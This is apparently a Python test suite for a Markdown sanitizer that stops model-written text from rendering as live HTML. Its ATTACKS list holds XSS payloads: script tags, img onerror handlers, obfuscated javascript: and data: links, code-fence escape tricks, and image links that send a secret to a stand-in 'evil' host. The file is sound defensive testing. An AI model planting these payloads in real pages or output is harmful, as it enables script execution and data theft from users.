"""What a model writes must not become HTML, whatever Markdown parser shows it."""

import re
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from xinfer_runtime.notebook.markdown import safe_markdown

# What a parser makes of Markdown's own syntax; none of it runs code or loads anything.
HARMLESS = {"p", "br", "hr", "em", "strong", "del", "code", "pre", "a", "ul", "ol", "li", "blockquote", "section"}
HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "sup"}
render = mistune.create_markdown(
    renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
    plugins=["table", "strikethrough", "url", "footnotes"],
)


class Dangers(HTMLParser):
    """Collects every tag and link that must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attributes:
            if name == "href" and not re.match(r"https?://|mailto:|#", value or "", re.IGNORECASE):
                self.found.append(f"{tag} to {value}")
            if name.startswith("on") or name in ("src", "style"):
                self.found.append(f"{tag} with {name}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")


def dangers(markdown: str) -> list[str]:
    parser = Dangers()
    parser.feed(str(render(markdown)))
    parser.close()
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b>bold</b> <!-- hidden -->",
    "![x](http://evil/?q=secret)",
    "\\![x](http://evil/?q=secret)",
    "![x][r]\n\n[r]: http://evil/",
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x](/lab/api/delete)",
    "`<b>` \\`<img src=x>`",
    "``<b>` <img src=x>",
    "```html\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
    "```html\n<script>alert(1)</script>",
    "~~~\n```\n<img src=x>\n~~~\n<img src=x>",
    "````\n```\n<img src=x>\n````",
    "- item\n\n      ```\n<img src=x>\n      ```",
    "1. a\n   ```\n   <img src=x>\n   ```\n2. b",
    "> ```\n> <img src=x>\n\n<img src=x>",
    "    ```\n<img src=x>\n    ```\n",
    "``` a`b\n<img src=x>\n```",
    "```\n<img src=x>\n      ```\n<img src=x>\n```\n<img src=x>",
    "$a <img src=x> b$ and $$\n<img src=x>\n$$",
    "<`a` <img src=x>",
    "[`](x) <img src=x> `",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_come_out_harmless(text: str) -> None:
    assert dangers(safe_markdown(text)) == []


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "![x](http://evil/)", "[x](javascript:alert(1))"])
def test_the_check_sees_raw_attacks(text: str) -> None:
    assert dangers(text) != []


PIECES = st.sampled_from(
    [
        *(
            "<img src=x>",
            "<b>",
            "`",
            "``",
            "```",
            "~~~",
            "````",
            "html",
            "\n",
            "\n\n",
            "    ",
            "   ",
            "- ",
            "> ",
            "1. ",
        ),
        *("a", "[x](", "javascript:a", ")", "]: ", "[r]", "![", "](", "\\", "$", "$$", "<", "!", "|", "&lt;", "<!--"),
        *("\t", "*", "_"),
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join))
@settings(max_examples=400, deadline=None)
@example("```\n\n```\n<b>\n```")
def test_no_mixture_of_syntax_becomes_html(text: str) -> None:
    assert dangers(safe_markdown(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\nSome *text* with `code`, a [link](https://example.org/a) and $x^2$.",
        "```python\nprint('a')\n```",
        "1. a\n   ```python\n   x = 1\n   ```\n2. b",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "3 < 4 and 5 > 2, a -> b",
        "[section](#part), <3",
    ],
)
def test_harmless_markdown_is_not_touched(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("List<int> here", "List<int> here"),
        ("use `vector<int>` here", "use vector<int> here"),
        ("```cpp\n#include <stdio.h>\nList<int> x;\n```", "#include <stdio.h>\nList<int> x;"),
        ("````\n```\n<b>\n```\n````", "```\n<b>\n```"),
        ("`arr![0]` a[0]: b", "arr![0] a[0]: b"),
    ],
)
def test_code_and_prose_keep_their_look(text: str, shown: str) -> None:
    class Text(HTMLParser):
        seen = ""

        def handle_data(self, data: str) -> None:
            self.seen += data

    parser = Text()
    parser.feed(str(render(safe_markdown(text))))
    assert parser.seen.strip() == shown


def test_the_language_of_rewritten_code_is_kept() -> None:
    assert "```cpp\n" in safe_markdown("```cpp\nList<int> x;\n```")


def test_formulas_get_a_space_and_no_reference() -> None:
    assert safe_markdown("$a<b$") == "$a< b$"


def test_code_that_is_still_being_written_is_closed() -> None:
    assert safe_markdown("- a\n  ```python\n  x = 1") == "- a\n  ```python\n  x = 1\n  ```"
